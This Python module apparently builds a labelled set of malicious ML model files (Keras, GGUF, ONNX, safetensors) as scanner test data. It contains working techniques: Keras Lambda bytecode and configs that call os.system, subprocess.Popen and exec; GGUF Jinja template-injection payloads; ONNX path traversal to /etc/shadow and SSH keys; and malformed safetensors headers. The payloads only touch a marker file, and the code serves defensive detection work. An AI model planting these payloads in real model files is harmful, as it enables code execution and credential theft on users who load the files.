"""Attacks on formats that are not pickles: Keras, GGUF, ONNX, safetensors.

Each file is written as JSON or bytes next to what the real library writes; none is
loaded, rendered or compiled into a model here.
"""

from __future__ import annotations

import base64
import json
import marshal
import os
import struct
import zipfile
from pathlib import Path
from typing import Any

import payloads

os.environ.setdefault("KERAS_BACKEND", "torch")

Labels = dict[str, str]


def _label(labels: Labels, root: Path, path: Path, technique: str) -> None:
    labels[str(path.relative_to(root))] = technique


def lambda_code(mark: str) -> str:
    """Base64 of marshalled bytecode for a lambda that would touch ``mark``."""
    source = f"lambda x: (__import__('os').system('touch {mark}'), x)[1]"
    module_code = compile(source, "<lambda>", "eval")  # compiled, never run
    lambda_obj = next(c for c in module_code.co_consts if hasattr(c, "co_code"))
    return base64.b64encode(marshal.dumps(lambda_obj)).decode("ascii") + "\n"


def _swap_lambda_code(config: Any, code: str) -> None:
    """Replace every serialized lambda's bytecode in a Keras config, in place."""
    if isinstance(config, dict):
        if config.get("class_name") == "__lambda__":
            config["config"]["code"] = code
        for value in config.values():
            _swap_lambda_code(value, code)
    elif isinstance(config, list):
        for value in config:
            _swap_lambda_code(value, code)


def _rewrite_keras_config(source: Path, target: Path, change: Any) -> None:
    """Copy a .keras zip with its config.json passed through ``change``."""
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w") as dst:
        for info in src.infolist():
            raw = src.read(info.filename)
            if info.filename == "config.json":
                config = json.loads(raw)
                change(config)
                raw = json.dumps(config).encode()
            dst.writestr(info, raw)


def keras_files(root: Path, work: Path, labels: Labels) -> None:
    """Lambda layers with payload bytecode, and configs that name arbitrary modules."""
    import h5py
    import keras

    out = root / "keras"
    out.mkdir(parents=True, exist_ok=True)
    scratch = work / "scratch"
    scratch.mkdir(parents=True, exist_ok=True)
    code = lambda_code(payloads.marker(str(work), "keras"))
    model = keras.Sequential(
        [keras.Input((4,)), keras.layers.Lambda(lambda x: x * 2), keras.layers.Dense(2)]
    )
    clean_keras = scratch / "lambda_clean.keras"
    model.save(clean_keras)
    path = out / "lambda_payload.keras"
    _rewrite_keras_config(clean_keras, path, lambda c: _swap_lambda_code(c, code))
    _label(labels, root, path, "keras Lambda layer with os.system bytecode (.keras)")
    path = out / "lambda_payload.h5"
    model.save(path)
    with h5py.File(path, "r+") as handle:
        config = json.loads(handle.attrs["model_config"])
        _swap_lambda_code(config, code)
        handle.attrs["model_config"] = json.dumps(config)
    _label(labels, root, path, "keras Lambda layer with os.system bytecode (.h5)")

    plain = keras.Sequential([keras.Input((4,)), keras.layers.Dense(2, activation="relu")])
    clean_plain = scratch / "dense_clean.keras"
    plain.save(clean_plain)
    mark = payloads.marker(str(work), "keras_config")
    injections: dict[str, tuple[str, dict[str, Any]]] = {
        "activation_os_system": (
            "keras config: activation function resolved from module os",
            {
                "module": "os",
                "class_name": "function",
                "config": "system",
                "registered_name": "function",
            },
        ),
        "layer_subprocess": (
            "keras config: layer class subprocess.Popen",
            {
                "module": "subprocess",
                "class_name": "Popen",
                "config": {"args": ["touch", mark]},
                "registered_name": "Popen",
            },
        ),
        "get_file_download": (
            "keras config: keras.utils.get_file download (safe_mode bypass)",
            {
                "module": "keras.utils",
                "class_name": "get_file",
                "config": {"fname": "x", "origin": "http://127.0.0.1:9/x", "cache_dir": str(work)},
                "registered_name": "get_file",
            },
        ),
        "builtins_exec_activation": (
            "keras config: activation builtins.exec",
            {
                "module": "builtins",
                "class_name": "function",
                "config": "exec",
                "registered_name": "function",
            },
        ),
    }
    for name, (technique, injected) in injections.items():
        path = out / f"config_{name}.keras"

        def change(config: dict[str, Any], injected: dict[str, Any] = injected) -> None:
            dense = config["config"]["layers"][-1]
            if injected.get("class_name") == "function":
                dense["config"]["activation"] = injected
            else:
                config["config"]["layers"].append(injected)

        _rewrite_keras_config(clean_plain, path, change)
        _label(labels, root, path, technique)


def gguf_files(root: Path, work: Path, labels: Labels) -> None:
    """GGUF files whose chat template is a Jinja server-side template injection."""
    import gguf
    import numpy as np

    out = root / "gguf"
    out.mkdir(parents=True, exist_ok=True)
    mark = payloads.marker(str(work), "gguf")
    templates = {
        "ssti_subclasses": "{% for c in ''.__class__.__mro__[1].__subclasses__() %}"
        "{% if c.__name__ == 'Popen' %}{{ c(['touch', '" + mark + "']) }}{% endif %}"
        "{% endfor %}{{ messages[0]['content'] }}",
        "ssti_globals_os": "{{ cycler.__init__.__globals__.os.popen('touch " + mark + "').read() }}"
        "{% for m in messages %}{{ m['content'] }}{% endfor %}",
        "ssti_import": "{{ self._TemplateReference__context.namespace.__init__.__globals__"
        "['__builtins__']['__import__']('os').system('touch " + mark + "') }}",
    }
    for name, template in templates.items():
        path = out / f"{name}.gguf"
        writer = gguf.GGUFWriter(str(path), "llama")
        writer.add_block_count(1)
        writer.add_context_length(64)
        writer.add_chat_template(template)
        writer.add_tensor("token_embd.weight", np.ones((8, 4), dtype=np.float32))
        writer.write_header_to_file()
        writer.write_kv_data_to_file()
        writer.write_tensors_to_file()
        writer.close()
        _label(labels, root, path, f"GGUF chat template SSTI ({name})")


def onnx_files(root: Path, work: Path, labels: Labels) -> None:
    """ONNX initializers whose external data points outside the model directory."""
    from onnx import TensorProto, helper

    out = root / "onnx"
    out.mkdir(parents=True, exist_ok=True)
    locations = {
        "traversal_relative": "../../../../../../etc/passwd",
        "traversal_absolute": "/etc/shadow",
        "traversal_home": "../../../../root/.ssh/id_rsa",
    }
    for name, location in locations.items():
        weight = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[8, 8])
        weight.data_location = TensorProto.EXTERNAL
        for key, value in (("location", location), ("offset", "0"), ("length", "256")):
            entry = weight.external_data.add()
            entry.key, entry.value = key, value
        graph = helper.make_graph(
            [helper.make_node("MatMul", ["x", "w"], ["y"])],
            "exfil",
            [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 8])],
            [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 8])],
            [weight],
        )
        model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
        path = out / f"{name}.onnx"
        path.write_bytes(model.SerializeToString())
        _label(labels, root, path, f"ONNX external data path traversal ({location})")


def _safetensors(header: dict[str, Any], body: bytes, declared: int | None = None) -> bytes:
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw) if declared is None else declared) + raw + body


def safetensors_files(root: Path, work: Path, labels: Labels) -> None:
    """safetensors whose header lies about the body (out-of-bounds reads, bombs)."""
    out = root / "safetensors"
    out.mkdir(parents=True, exist_ok=True)
    body = bytes(64)
    cases = {
        "offsets_past_end": (
            {"w": {"dtype": "F32", "shape": [268435456], "data_offsets": [0, 1 << 30]}},
            None,
        ),
        "overlapping": (
            {
                "a": {"dtype": "F32", "shape": [16], "data_offsets": [0, 64]},
                "b": {"dtype": "F32", "shape": [8], "data_offsets": [16, 48]},
            },
            None,
        ),
        "shape_mismatch": (
            {"w": {"dtype": "F32", "shape": [1000, 1000], "data_offsets": [0, 64]}},
            None,
        ),
        "header_length_huge": (
            {"w": {"dtype": "F32", "shape": [16], "data_offsets": [0, 64]}},
            1 << 40,
        ),
        "header_length_past_end": (
            {"w": {"dtype": "F32", "shape": [16], "data_offsets": [0, 64]}},
            4096,
        ),
    }
    for name, (header, declared) in cases.items():
        path = out / f"lie_{name}.safetensors"
        path.write_bytes(_safetensors(header, body, declared))
        _label(labels, root, path, f"safetensors header lie ({name})")
